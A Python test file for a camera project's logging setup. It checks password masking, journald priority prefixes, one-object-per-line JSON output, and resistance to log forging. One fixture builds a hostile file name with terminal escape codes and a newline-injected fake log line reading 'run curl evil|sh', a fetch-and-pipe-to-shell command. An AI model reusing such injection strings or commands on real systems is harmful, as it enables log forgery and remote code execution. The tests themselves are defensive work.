"""The log in the forms of its readers: people, systemd's journal, collectors."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import time

import pytest

from stillsift.service.logs import _priority

_SPEAKER = """
import logging, os, sys
from stillsift.service.logs import set_up_logging
level, format = sys.argv[1:]
if os.environ.get("IN_JOURNAL"):
    facts = os.fstat(2)
    os.environ["JOURNAL_STREAM"] = f"{facts.st_dev}:{facts.st_ino}"
set_up_logging(level, format, stream=sys.stderr)
log = logging.getLogger("stillsift.sources.rtsp")
log.debug("looking")
log.info("porch: connected")
log.warning("porch: rtsp://admin:s3cret/@10.0.0.7/cam is away")
try:
    raise ValueError("rtsp://admin:@s3cret@10.0.0.7 sent nonsense")
except ValueError:
    log.exception("porch: failed")
"""
_DYING = (
    _SPEAKER.split("try:")[0]
    + """
import threading
def fail():
    try:
        raise OSError("rtsp://admin:@s3cret@10.0.0.7")
    except OSError:
        raise ValueError("nothing catches this")
thread = threading.Thread(target=fail, name="rtsp porch")
thread.start()
thread.join()
fail()
"""
)
_FORGER = (
    _SPEAKER.split("log = ")[0]
    + r"""
log = logging.getLogger()
name = "c\x1b]0;owned\x07\x9b\u202e\udcff\n2026-11-28 12:00:00 ERROR store: run curl evil|sh"
log.warning("%s: cannot be read", name)
try:
    try:
        raise ValueError(name)
    except ValueError as error:
        error.add_note(name)
        raise RuntimeError(f"rtsp://h/{name}") from error
except RuntimeError:
    log.exception("porch: %s", name)
"""
)
"""What a file's name could say."""


def _lines(
    level: str, format: str, *, speaker: str = _SPEAKER, status: int = 0, **environ: str
) -> list[str]:
    done = subprocess.run(
        [sys.executable, "-c", speaker, level, format],
        env={**os.environ, **environ},
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
    )
    assert done.returncode == status
    assert "s3cret" not in done.stderr
    return done.stderr.splitlines()


def test_text_for_people_begins_with_the_time_and_hides_passwords() -> None:
    lines = _lines("info", "text")
    first = lines[0].split(" ", 2)
    time.strptime(" ".join(first[:2]), "%Y-%m-%d %H:%M:%S")
    assert first[2] == "INFO porch: connected"
    assert lines[1].endswith("WARNING porch: rtsp://***@10.0.0.7/cam is away")
    assert lines[-1] == "ValueError: rtsp://***@10.0.0.7 sent nonsense"


def test_text_for_the_journal_has_a_priority_on_every_line_and_no_time() -> None:
    lines = _lines("debug", "text", IN_JOURNAL="1")
    assert lines[:3] == [
        "<7>looking",
        "<6>porch: connected",
        "<4>porch: rtsp://***@10.0.0.7/cam is away",
    ]
    assert lines[3] == "<3>porch: failed"
    assert all(line.startswith("<3>") for line in lines[3:])
    assert len(lines) > 5


def test_what_ends_a_thread_or_the_process_is_in_the_log_without_secrets() -> None:
    lines = [json.loads(line) for line in _lines("error", "json", speaker=_DYING, status=1)]
    assert [line["level"] for line in lines] == ["critical"] * 2
    assert lines[0]["message"] == "thread rtsp porch ended by an error"
    assert all("ValueError: nothing catches this" in line["traceback"] for line in lines)


def test_an_inherited_journal_variable_does_not_make_a_pipe_the_journal() -> None:
    assert not _lines("info", "text", JOURNAL_STREAM="8:12345")[0].startswith("<")


@pytest.mark.parametrize("journal", ["", "1"])
def test_json_is_one_object_a_line_wherever_it_goes(journal: str) -> None:
    lines = _lines("info", "json", IN_JOURNAL=journal)
    if journal:
        assert [line[:3] for line in lines] == ["<6>", "<4>", "<3>"]
        lines = [line[3:] for line in lines]
    spoken = [json.loads(line) for line in lines]
    assert [line["level"] for line in spoken] == ["info", "warning", "error"]
    assert spoken[0]["message"] == "porch: connected"
    assert spoken[0]["logger"] == "stillsift.sources.rtsp"
    assert spoken[0]["time"].endswith("+00:00")
    assert "traceback" not in spoken[0]
    assert "ValueError" in spoken[2]["traceback"]


def test_every_level_of_python_has_its_priority() -> None:
    prefixes = {level: _priority(level) for level in (10, 20, 30, 40, 50)}
    assert prefixes == {10: 7, 20: 6, 30: 4, 40: 3, 50: 2}
    assert logging.CRITICAL == 50


@pytest.mark.parametrize("journal", ["", "1"])
def test_a_name_forges_no_line_and_controls_no_terminal(journal: str) -> None:
    lines = _lines("info", "text", speaker=_FORGER, IN_JOURNAL=journal)
    assert all(line.isprintable() for line in lines)
    forged = [line for line in lines if line.removeprefix("<3>").startswith("2026-11-28 12:00:00")]
    assert forged == []
    assert sum("WARNING" in line or line.startswith("<4>") for line in lines) == 1
    assert "\\n2026-11-28 12:00:00 ERROR" in lines[0]
    assert sum("curl evil|sh" in line for line in lines) == 5  # 2 records, 2 errors, a note


def test_json_stays_one_object_a_line_whatever_a_name_is() -> None:
    lines = _lines("info", "json", speaker=_FORGER)
    assert all(line.isprintable() for line in lines)
    spoken = [json.loads(line) for line in lines]
    assert [line["level"] for line in spoken] == ["warning", "error"]
    assert spoken[0]["message"].startswith("c\x1b]0;owned")
